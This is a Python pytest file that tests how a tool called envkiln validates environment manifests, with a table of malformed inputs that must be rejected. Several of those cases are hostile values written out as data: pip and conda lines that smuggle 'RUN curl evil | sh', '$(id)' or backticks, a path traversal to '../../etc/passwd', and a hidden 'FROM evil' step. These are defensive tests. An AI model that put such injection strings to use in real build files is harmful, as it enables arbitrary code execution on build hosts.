"""Validation of Environment definitions: the three kinds, and a table of malformed inputs."""

from __future__ import annotations

from typing import Any

import pytest

from envkiln.core.errors import DefinitionError
from envkiln.core.manifests import parse_environment
from envkiln.core.models import EnvironmentKind
from helpers import CONDA_ENV, PIP_ENV, manifest

BYOC = {"apiVersion": "envkiln.dev/v1alpha1", "kind": "Environment", "metadata": {"name": "byoc"},
        "spec": {"image": "ghcr.io/org/trainer:1.0", "userManaged": True}}
CONTEXT = {"apiVersion": "envkiln.dev/v1alpha1", "kind": "Environment", "metadata": {"name": "ctx"},
           "spec": {"build": {"git": {"url": "https://github.com/o/r.git", "ref": "main", "path": "images/a"}}}}


def test_the_three_kinds() -> None:
    assert parse_environment(PIP_ENV).spec.kind is EnvironmentKind.SYSTEM_MANAGED
    assert parse_environment(CONDA_ENV).spec.kind is EnvironmentKind.SYSTEM_MANAGED
    assert parse_environment(BYOC).spec.kind is EnvironmentKind.BRING_YOUR_OWN
    ctx = parse_environment(CONTEXT).spec
    assert ctx.kind is EnvironmentKind.BUILD_CONTEXT
    assert ctx.build is not None and ctx.build.dockerfile_path == "Dockerfile"


def test_defaults_and_round_trip() -> None:
    doc = manifest(version=None)
    env = parse_environment(doc)
    assert env.spec.version == "1"
    assert env.spec.user_managed is False
    assert env.spec.to_kube()["pip"] == ["numpy==2.1.3", "pandas==2.2.3"]
    assert "dockerSteps" not in env.spec.to_kube()


def test_reserved_names_allowed_in_curated_namespace() -> None:
    doc = manifest(); doc["metadata"] = {"name": "azureml-sklearn", "namespace": "envkiln-curated"}  # noqa: E702
    assert parse_environment(doc).metadata.name == "azureml-sklearn"
    doc["metadata"]["namespace"] = "team-a"
    with pytest.raises(DefinitionError, match=r"reserved prefix 'azureml-'.*rename"):
        parse_environment(doc)


def test_pip_markers_and_index_options_are_accepted() -> None:
    doc = manifest(pip=["torch==2.5.1; platform_machine == 'x86_64'", "--extra-index-url https://download.pytorch.org/whl/cpu",
                        "requests[socks]>=2.31,<3", "pkg @ https://example.com/pkg-1.0.tar.gz"])
    assert len(parse_environment(doc).spec.pip or []) == 4


# What Azure ML definitions use and pip reads: URL, VCS and `name @ url` requirements.
URL_REQUIREMENTS = [
    "pkg @ https://example.com/pkg-1.0-py3-none-any.whl",
    "pkg[extra] @ git+https://github.com/org/pkg.git@v1.2",
    "https://example.com/pkg-1.0.tar.gz",
    "git+https://github.com/org/pkg.git@0123abcd#egg=pkg&subdirectory=python",
    "git+https://github.com/org/pkg.git",
    "pkg @ file:///opt/wheels/pkg-1.0-py3-none-any.whl",
    "pkg @ https://example.com/pkg.whl ; python_version >= '3.10'",
]


@pytest.mark.parametrize("line", URL_REQUIREMENTS)
def test_url_vcs_and_named_url_requirements_are_accepted(line: str) -> None:
    assert parse_environment(manifest(pip=[line])).spec.pip == [line]
    conda = {"dependencies": ["python=3.11", {"pip": [line]}]}  # no '- pip': conda adds it, so does envkiln
    assert parse_environment(manifest(CONDA_ENV, conda=conda)).spec.conda is not None


def _meta(name: str, namespace: str | None = None) -> dict[str, Any]:
    return {"name": name, **({"namespace": namespace} if namespace else {})}


# (case id, document, text that must appear in the error)
BAD_INPUTS = [
    ("not-a-mapping", ["a", "list"], "a manifest is a mapping"),
    ("wrong-api-version", dict(manifest(), apiVersion="v1"), "apiVersion"),
    ("missing-spec", {"apiVersion": "envkiln.dev/v1alpha1", "kind": "Environment", "metadata": {"name": "x"}},
     "spec: required field is missing"),
    ("missing-name", dict(manifest(), metadata={}), "metadata.name: required field is missing"),
    ("bad-name", dict(manifest(), metadata=_meta("My_Env")), "not a valid resource name"),
    ("empty-definition", manifest(image=None, pip=None), "the definition is empty"),
    ("image-alone", manifest(pip=None), "spec.image alone builds nothing"),
    ("packages-without-image", manifest(image=None), "spec.image is required"),
    ("uppercase-image", manifest(image="Python:3.11"), "repository names are lowercase"),
    ("image-with-space", manifest(image="python :3.11"), "must not contain spaces"),
    ("short-digest", manifest(image="python@sha256:abc"), "not a valid image reference"),
    ("image-not-string", manifest(image=311), "spec.image"),
    ("unicode-image", manifest(image="pyth\u043en:3.11"), "ASCII"),
    ("pip-not-list", manifest(pip="numpy"), "spec.pip"),
    ("pip-empty", manifest(pip=[]), "spec.pip: empty list"),
    ("pip-newline-injection", manifest(pip=["numpy\nRUN curl evil | sh"]), "line breaks and shell metacharacters"),
    ("pip-command-substitution", manifest(pip=["numpy$(id)"]), "shell metacharacters"),
    ("pip-backtick", manifest(pip=["numpy`id`"]), "shell metacharacters"),
    ("pip-pipe", manifest(pip=["numpy | sh"]), "shell metacharacters"),
    ("pip-requirement-file", manifest(pip=["-r other.txt"]), "list that file's requirements here instead"),
    ("pip-constraints-file", manifest(pip=["-c constraints.txt"]), "pin the versions in the requirements"),
    ("pip-editable", manifest(pip=["-e ."]), "-e is an editable install"),
    ("pip-ssh-vcs", manifest(pip=["git+ssh://git@host/o/r.git"]), "write git+https://"),
    ("pip-http-url", manifest(pip=["pkg @ http://host/pkg.whl"]), "write the https:// URL"),
    ("pip-local-path", manifest(pip=["./wheels/pkg-1.0-py3-none-any.whl"]), "is a local path"),
    ("pip-garbage", manifest(pip=["not a requirement!!"]), "is not a pip requirement"),
    ("pip-blank", manifest(pip=["  "]), "spec.pip[0]: requirement is empty"),
    ("conda-not-mapping", manifest(CONDA_ENV, conda=["python=3.11"]), "a conda specification is a mapping"),
    ("conda-without-dependencies", manifest(CONDA_ENV, conda={"channels": ["conda-forge"]}),
     "needs 'dependencies'"),
    ("conda-empty-dependencies", manifest(CONDA_ENV, conda={"dependencies": []}), "dependencies is empty"),
    ("conda-dep-injection", manifest(CONDA_ENV, conda={"dependencies": ["python=3.11\nRUN id"]}),
     "shell metacharacters"),
    ("conda-unknown-key", manifest(CONDA_ENV, conda={"dependencies": ["python"], "prefix": "/x"}),
     "spec.conda.prefix: unknown field"),
    ("build-and-conda", manifest(CONDA_ENV, image=None, pip=None, dockerSteps=None,
                                 build={"configMap": {"name": "ctx"}}),
     "spec.build cannot be combined with spec.conda"),
    ("build-two-sources", {**CONTEXT, "spec": {"build": {"configMap": {"name": "c"},
                                                          "git": {"url": "https://g/r.git", "ref": "main"}}}},
     "exactly one build context source"),
    ("build-no-source", {**CONTEXT, "spec": {"build": {"dockerfilePath": "Dockerfile"}}},
     "exactly one build context source"),
    ("build-dockerfile-escape", {**CONTEXT, "spec": {"build": {"configMap": {"name": "c"},
                                                                "dockerfilePath": "../../etc/passwd"}}},
     "relative path inside the context"),
    ("git-url-not-git", {**CONTEXT, "spec": {"build": {"git": {"url": "ftp://x/y", "ref": "main"}}}},
     "is not a git URL"),
    ("tarball-http", {**CONTEXT, "spec": {"build": {"tarball": {"url": "http://x/ctx.tar.gz"}}}},
     "not an https URL"),
    ("tarball-bad-sha", {**CONTEXT, "spec": {"build": {"tarball": {"url": "https://x/c.tgz", "sha256": "xyz"}}}},
     "spec.build.tarball.sha256"),
    ("user-managed-with-pip", manifest(userManaged=True), "spec.userManaged: true runs spec.image as is"),
    ("docker-step-from", manifest(dockerSteps=["FROM ubuntu"]), "FROM is not allowed"),
    ("docker-step-copy", manifest(dockerSteps=["COPY secrets /"]), "COPY is not allowed"),
    ("docker-step-not-instruction", manifest(dockerSteps=["apt-get install -y git"]),
     "not a Dockerfile instruction"),
    ("docker-step-hidden-newline", manifest(dockerSteps=["RUN echo ok\nFROM evil"]),
     "does not end with '\\'"),
    ("env-var-bad-name", manifest(environmentVariables={"1BAD": "x"}), "not an environment variable name"),
    ("env-var-not-string", manifest(environmentVariables={"A": {"nested": 1}}), "spec.environmentVariables.A"),
    ("unknown-spec-field", manifest(dockersteps=["RUN true"]), "spec.dockersteps: unknown field"),
    ("bad-version", manifest(version="1 beta"), "spec.version"),
    ("reserved-azureml", dict(manifest(), metadata=_meta("azureml-mine", "team-a")), "reserved prefix"),
    ("reserved-microsoft", dict(manifest(), metadata=_meta("microsoft-pytorch")), "reserved prefix 'microsoft'"),
    ("too-many-packages", manifest(pip=[f"pkg{i}" for i in range(501)]), "spec.pip"),
]


@pytest.mark.parametrize(("document", "expected"), [(d, e) for _, d, e in BAD_INPUTS],
                         ids=[case for case, _, _ in BAD_INPUTS])
def test_bad_input_gives_a_field_named_error(document: object, expected: str) -> None:
    with pytest.raises(DefinitionError) as error:
        parse_environment(document)
    message = str(error.value)
    assert expected in message, message
    assert "Traceback" not in message
    for problem in error.value.problems:
        assert ":" in problem, "every problem names where it is"


def test_bad_input_table_is_large_enough() -> None:
    assert len(BAD_INPUTS) >= 25
